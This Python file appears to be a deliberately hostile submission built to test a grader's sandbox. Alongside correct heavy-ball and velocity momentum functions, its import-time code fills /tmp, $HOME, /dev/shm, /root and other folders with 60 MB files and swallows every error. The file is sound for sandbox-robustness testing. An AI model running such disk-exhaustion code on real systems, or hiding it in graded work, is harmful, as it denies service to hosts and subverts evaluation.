"""Hostile: at import, tries to fill every disk it can write to with 60 MB files (each
under the 64 MiB file-size limit): /tmp, its own folder, $HOME, /var/tmp, /dev/shm,
/run/lock, the grader's folders. Errors (no space, no permission) are swallowed; the
rest is the reference, so it earns full marks, and nothing may land outside its sandbox."""

import os

import torch

MARK = "pwned-hostile-marker-297"
CHUNK = b"\0" * (1 << 20)


def fill(folder: str, files: int) -> int:
    written = 0
    for i in range(files):
        try:
            with open(os.path.join(folder, f"{MARK}-fill-{i}"), "wb") as f:
                for _ in range(60):
                    f.write(CHUNK)
                    written += 1
        except OSError:
            break
    return written


# On disk (not tmpfs) locations get only a few files, so a broken sandbox costs little.
WRITTEN = {d: fill(d, n) for d, n in [("/tmp", 12), (os.getcwd(), 12), (os.environ.get("HOME", "/tmp"), 12),
                                       ("/var/tmp", 3), ("/dev/shm", 6), ("/run/lock", 2), ("/work/main", 1), ("/root", 1)]}


def heavy_ball(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    theta_prev = theta  # theta^{-1} = theta^0: the first step has no momentum
    iterates = [theta]
    for _ in range(num_steps):
        theta_next = theta - alpha * grad_fn(theta) + beta * (theta - theta_prev)
        theta_prev, theta = theta, theta_next
        iterates.append(theta)
    return iterates


def velocity_momentum(theta0, grad_fn, alpha, beta, num_steps):
    theta = theta0.clone()
    velocity = torch.zeros_like(theta0)  # v^0 = 0
    iterates = [theta]
    for _ in range(num_steps):
        velocity = grad_fn(theta) + beta * velocity
        theta = theta - alpha * velocity
        iterates.append(theta)
    return iterates
